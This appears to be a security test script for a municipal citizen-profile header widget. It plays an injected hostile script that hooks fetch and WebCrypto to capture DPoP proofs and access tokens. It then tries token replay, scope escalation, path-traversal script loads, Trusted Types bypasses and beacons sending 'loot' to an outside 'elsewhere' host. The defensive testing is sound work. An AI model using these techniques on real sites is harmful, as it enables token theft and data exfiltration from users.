/**
 * A script that runs in the municipality's page before anything else does, and has read our sources.
 * It hooks what the header uses, then tries what it can think of; what came of each attempt is told to the test.
 */
window.loot = { proofs: [], tokens: [], answers: [], violations: [], policies: {} };
addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
  loot.violations.push(`${effectiveDirective} ${blockedURI}`));

const realFetch = window.fetch.bind(window);
const makeKey = crypto.subtle.generateKey.bind(crypto.subtle);
crypto.subtle.generateKey = async (...rest) => (loot.pair = await makeKey(...rest));
window.fetch = async (address, request = {}) => {
  const proof = new Headers(request.headers).get("DPoP");
  if (proof) loot.proofs.push({ address: String(address), proof });
  const answer = await realFetch(address, request);
  const { body } = answer.headers.get("content-type")?.includes("json") ? { body: await answer.clone().json() } : {};
  if (body?.access_token) loot.tokens.push(body.access_token);
  if (body?.data) loot.answers.push(body.data);
  if (!body?.data?.header || !loot.entries) return answer;
  body.data.header.summary.entries = loot.entries;
  return new Response(JSON.stringify(body), answer);
};
const realTypes = window.trustedTypes;
Object.defineProperty(window, "trustedTypes", {
  value: { createPolicy: (name, rules) => (loot.policies[name] = realTypes.createPolicy(name, rules)) },
});

const utf8 = (text) => new TextEncoder().encode(text);
const base64url = (bytes) =>
  btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");

/** Sign with the header's own key, which cannot be exported and can be used while this page is open. */
async function proved(htu, token, nonce) {
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", loot.pair.publicKey);
  const ath = token && base64url(await crypto.subtle.digest("SHA-256", utf8(token)));
  const claims = { jti: crypto.randomUUID(), htm: "POST", htu, iat: Math.floor(Date.now() / 1000), nonce, ath };
  const signed = [{ typ: "dpop+jwt", alg: "ES256", jwk: { kty, crv, x, y } }, claims]
    .map((part) => base64url(utf8(JSON.stringify(part)))).join(".");
  const signature = await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, loot.pair.privateKey, utf8(signed));
  return `${signed}.${base64url(signature)}`;
}

/** Ask as the header does, with its own key and token; say the status and what came. */
async function asked(address, body) {
  const token = loot.tokens.at(-1);
  let nonce;
  for (let round = 0; ; round += 1) {
    const headers = { DPoP: await proved(address, token, nonce), Authorization: `DPoP ${token}`, "Content-Type": "application/json" };
    const answer = await realFetch(address, { method: "POST", headers, body: JSON.stringify(body), credentials: "omit" });
    nonce = answer.headers.get("dpop-nonce");
    if (answer.status === 401 && nonce && !round) continue;
    return [answer.status, await answer.text()];
  }
}

async function outcome(attempt) {
  try {
    return await attempt();
  } catch (error) {
    return error.name;
  }
}

const element = () => document.querySelector("citizen-profile-header");
const status = async (address, request) => (await realFetch(address, request)).status;
const framed = (address) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => done(outcome(() => frame.contentDocument?.body.textContent || "nothing to read"));
    frame.onerror = () => done("refused");
    setTimeout(() => done("nothing came"), 3000);
    frame.src = address;
    document.body.append(frame);
  });
const injected = (make) =>
  new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("it ran");
    script.onerror = () => done("refused");
    Promise.resolve(outcome(() => (make(script), document.head.append(script)))).then((said) => said && done(said));
    setTimeout(() => done("nothing came"), 3000);
  });

/** Addresses that are no widget of the gateway, though some look like one. */
const foreign = (gateway, elsewhere) => [
  `${elsewhere}/evil.js`,
  `${elsewhere}/header/widgets/a/b.js`,
  `${gateway}/header/widgets/../../evil.js`,
  `${gateway}/header/widgets/%2e%2e/%2E%2E/evil.js`,
  `${gateway}/header/widgets/..\\..\\evil.js`,
  `${gateway}/header/widgets/..\t/evil.js`,
  `${gateway}/header/widgetsevil.js`,
  `${gateway}/graphql`,
  `${gateway}.evil.localhost/header/widgets/a/b.js`,
  `${gateway.replace("//", "//me@")}/header/widgets/a/b.js`,
  "//evil.localhost/header/widgets/a/b.js",
  "/header/widgets/a/b.js",
  "data:text/javascript,evil",
  "javascript:evil",
  "",
];
const letThrough = (text, kind = "createScriptURL") => {
  try {
    return Boolean(loot.policies["citizen-profile"][kind](text));
  } catch {
    return false;
  }
};

/** Every attempt by its name in docs/security/header.md. */
window.attempts = (gateway, elsewhere) => ({
  "read the panel in the shadow root": async () => {
    await element().openPanel();
    return element().shadowRoot.querySelector("[part=panel]").textContent.includes("Stad Gent");
  },
  "listen to the header's own requests": () => [loot.tokens.length > 0, Object.keys(loot.answers[0].header.summary).sort().join()],
  "export the private key": () => crypto.subtle.exportKey("jwk", loot.pair.privateKey),
  "export it wrapped by a key of its own": async () => {
    const wrapper = await makeKey({ name: "AES-KW", length: 256 }, true, ["wrapKey"]);
    return crypto.subtle.wrapKey("jwk", loot.pair.privateKey, wrapper, "AES-KW");
  },
  "ask the header's document itself, with key and token": async () => (await asked(`${gateway}/graphql`, headerQuestion()))[0],
  "ask for titles and texts": () => asked(`${gateway}/graphql`, { query: "{ notifications { inbox(first: 5) { nodes { title text } } } }" }),
  "ask the header's document with one field more": () =>
    asked(`${gateway}/graphql`, { ...headerQuestion(), query: headerQuestion().query.replace("role {", "__typename role {") }),
  "mark everything as read": () => asked(`${gateway}/graphql`, { query: "mutation { markNotificationsRead(ids: []) { __typename } }" }),
  "ask as a provider": () => outcome(() => asked(`${gateway}/provider/graphql`, { query: "{ __typename }" })),
  "use a proof a second time": async () => {
    const { proof } = loot.proofs.findLast(({ address }) => address.endsWith("/graphql"));
    const headers = { DPoP: proof, Authorization: `DPoP ${loot.tokens.at(-1)}`, "Content-Type": "application/json" };
    return status(`${gateway}/graphql`, { method: "POST", headers, body: JSON.stringify(headerQuestion()), credentials: "omit" });
  },
  "use the token as a bearer token": () =>
    status(`${gateway}/graphql`, {
      method: "POST",
      headers: { Authorization: `Bearer ${loot.tokens.at(-1)}`, "Content-Type": "application/json" },
      body: JSON.stringify(headerQuestion()),
      credentials: "omit",
    }),
  "use the token with a key of its own": async () => {
    const theirs = loot.pair;
    loot.pair = await makeKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
    const [said] = await asked(`${gateway}/graphql`, headerQuestion());
    loot.pair = theirs;
    return said;
  },
  "turn the header token into another at our token endpoint": () =>
    outcome(() =>
      status(`${gateway}/sso/token`, {
        method: "POST",
        body: new URLSearchParams({
          grant_type: "urn:ietf:params:oauth:grant-type:token-exchange",
          subject_token: loot.tokens.at(-1),
          subject_token_type: "urn:ietf:params:oauth:token-type:access_token",
          scope: "citizen",
        }),
      })),
  "have the site's server ask for more than the header's scope": async () => {
    const ask = async (nonce) =>
      realFetch("/citizen-profile/header-token?scope=citizen", {
        method: "POST",
        headers: { DPoP: await proved(`${gateway}/sso/token`, undefined, nonce) },
        body: new URLSearchParams({ scope: "citizen openid", audience: `${gateway}/graphql` }),
      });
    const answer = await ask((await ask()).headers.get("dpop-nonce"));
    const { access_token } = await answer.json();
    return JSON.parse(atob(access_token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/"))).scope;
  },
  "fetch the profile page with the citizen's cookies": () => outcome(async () => (await realFetch(`${gateway}/me`, { credentials: "include" })).text()),
  "frame the profile page and read it": () => framed(`${gateway}/me`),
  "open the profile page in a window and read it": () =>
    outcome(async () => {
      const opened = open(`${gateway}/me`);
      let said = "";
      for (let looked = 0; said === "" && looked < 60; looked += 1) {
        await new Promise((later) => setTimeout(later, 250)); // until then it is an empty page of the opener
        said = await outcome(() => opened.document.body.textContent);
      }
      opened?.close();
      return said;
    }),
  "find something kept in the browser": async () =>
    [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, document.cookie].join(),
  "point the header to a gateway of its own": async () => {
    const header = element();
    const before = loot.tokens.length;
    header.setAttribute("api", elsewhere);
    await header.refresh();
    const given = loot.tokens.length - before;
    header.setAttribute("api", gateway);
    await header.refresh();
    return [given, loot.proofs.filter(({ address }) => address.startsWith(elsewhere)).length];
  },
  "send what it read to a server of its own": () => {
    new Image().src = `${elsewhere}/image?loot`;
    navigator.sendBeacon(`${elsewhere}/beacon?loot`, "x");
    return outcome(() => status(`${elsewhere}/fetch?loot`, { method: "POST", mode: "no-cors", body: "x" }));
  },
  "open a window whose address holds what it read": () => Boolean(open(`${elsewhere}/window?loot`)),
  "load a script from elsewhere": () => injected((script) => (script.src = `${elsewhere}/evil.js?plain`)),
  "load one through a Trusted Types policy of its own": () =>
    injected((script) => {
      const policy = realTypes.createPolicy("mine", { createScriptURL: (address) => address });
      script.src = policy.createScriptURL(`${elsewhere}/evil.js?mine`);
    }),
  "load one as a widget of the header": async () => {
    const before = new Set(document.scripts);
    const { entries } = loot.answers.findLast((data) => data.header).header.summary;
    const far = ["../../evil", "..", `${elsewhere}/evil.js?`].map((block) => ({ ...entries[0], block }));
    await element().closePanel();
    loot.entries = [...entries, ...far];
    const pins = ["notifications sha384-../../../evil", "../../evil sha384-BBB", ".. sha384-CCC", `${elsewhere}/evil.js? sha384-DDD`];
    element().setAttribute("widgets", pins.join(" "));
    await element().refresh();
    await outcome(() => element().openPanel());
    const added = [...document.scripts].filter((script) => !before.has(script));
    return added.map(({ src }) => src.replace(gateway, "").replace(encodeURIComponent(elsewhere), "ELSEWHERE")).sort();
  },
  "have the header's own Trusted Types policy let another address through": () =>
    foreign(gateway, elsewhere).filter((address) => letThrough(address)),
  "have that policy make markup or a script": () => ["createHTML", "createScript"].filter((kind) => letThrough("evil", kind)),
  "bend that policy by swapping built-ins, and load one": () =>
    injected((script) => {
      const [startsWith, RealURL] = [String.prototype.startsWith, URL];
      String.prototype.startsWith = () => true;
      window.URL = function (href) { return { href }; };
      script.src = loot.policies["citizen-profile"].createScriptURL(`${elsewhere}/evil.js?bent`);
      String.prototype.startsWith = startsWith;
      window.URL = RealURL;
    }),
});

function headerQuestion() {
  return loot.question ??= null;
}

Object.assign(window, { asked, outcome, headerQuestion, letThrough });
